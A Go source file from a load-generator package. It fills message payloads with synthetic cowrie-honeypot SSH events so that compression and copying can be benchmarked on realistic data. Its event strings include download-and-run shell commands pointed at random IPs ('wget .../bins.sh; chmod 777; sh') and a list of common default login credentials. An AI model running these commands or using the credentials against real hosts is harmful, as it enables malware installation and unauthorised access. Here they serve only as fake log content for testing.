package loadgen

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// What follows a payload's first MinSize bytes is not zeros but cowrie-like
// JSON events (random addresses, ports, sessions, logins and times), so
// that whatever compresses or copies payloads is measured on content like
// a sensor network's: a run of zeros compresses some 20,000-fold, these
// about fourfold, as events do.

// bodiesBytes bounds the bodies of one run: enough distinct ones that a
// 256 KiB batch of 256-byte payloads repeats none.
const bodiesBytes = 256 << 10

// Bodies returns the payload bodies (the bytes after MinSize) a run cycles
// through for payloads of size bytes: the same for every run and broker.
// Payloads over 128 KiB get one body, so that a publisher need not copy
// them whole for every message (see Varying).
func Bodies(size int) [][]byte {
	r := rand.New(rand.NewPCG(1, 2))
	bodies := make([][]byte, bodyCount(size))
	for i := range bodies {
		var b strings.Builder
		for b.Len() < size-MinSize {
			b.WriteString(event(r))
			b.WriteByte('\n')
		}
		bodies[i] = []byte(b.String()[:size-MinSize])
	}
	return bodies
}

// Varying is how many leading bytes of a payload of size bytes change from
// one message to the next: all of them, unless it has a single body.
func Varying(size int) int {
	if bodyCount(size) == 1 {
		return MinSize
	}
	return size
}

func bodyCount(size int) int { return max(1, min(1024, bodiesBytes/size)) }

var (
	users     = []string{"root", "admin", "user", "test", "ubuntu", "pi", "oracle", "support", "git", "postgres"}
	passwords = []string{"123456", "password", "admin", "root", "12345678", "qwerty", "raspberry", "1234", "toor", "P@ssw0rd"}
	commands  = []string{
		"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "wget http://%s/bins.sh; chmod 777 bins.sh; sh bins.sh",
		"cd /tmp || cd /var/run; busybox wget http://%s/x86", "echo -e \"\\x61\\x75\\x74\\x68\"", "free -m | grep Mem",
	}
)

// event is one cowrie-like event as JSON.
func event(r *rand.Rand) string {
	src := fmt.Sprintf("%d.%d.%d.%d", 1+r.IntN(223), r.IntN(256), r.IntN(256), 1+r.IntN(254))
	sensor := fmt.Sprintf("10.0.%d.%d", r.IntN(4), 2+r.IntN(60))
	port := 1024 + r.IntN(64511)
	session := fmt.Sprintf("%012x", r.Uint64()&(1<<48-1))
	ts := fmt.Sprintf("2026-12-04T%02d:%02d:%02d.%06dZ", r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(1000000))
	head := fmt.Sprintf(`{"src_ip":"%s","src_port":%d,"dst_ip":"%s","dst_port":22,"session":"%s","protocol":"ssh","sensor":"cowrie-%02d","timestamp":"%s",`,
		src, port, sensor, session, r.IntN(40), ts)
	switch r.IntN(4) {
	case 0:
		return head + fmt.Sprintf(`"eventid":"cowrie.session.connect","message":"New connection: %s:%d (%s:22) [session: %s]"}`, src, port, sensor, session)
	case 1:
		u, p := users[r.IntN(len(users))], passwords[r.IntN(len(passwords))]
		return head + fmt.Sprintf(`"eventid":"cowrie.login.failed","username":"%s","password":"%s","message":"login attempt [%s/%s] failed"}`, u, p, u, p)
	case 2:
		c := commands[r.IntN(len(commands))]
		if strings.Contains(c, "%s") {
			c = fmt.Sprintf(c, fmt.Sprintf("%d.%d.%d.%d", 1+r.IntN(223), r.IntN(256), r.IntN(256), 1+r.IntN(254)))
		}
		return head + fmt.Sprintf(`"eventid":"cowrie.command.input","input":%q,"message":"CMD: %s"}`, c, strings.ReplaceAll(c, `"`, `\"`))
	default:
		return head + fmt.Sprintf(`"eventid":"cowrie.session.closed","duration":%.1f,"message":"Connection lost after %d seconds"}`, r.Float64()*300, r.IntN(300))
	}
}
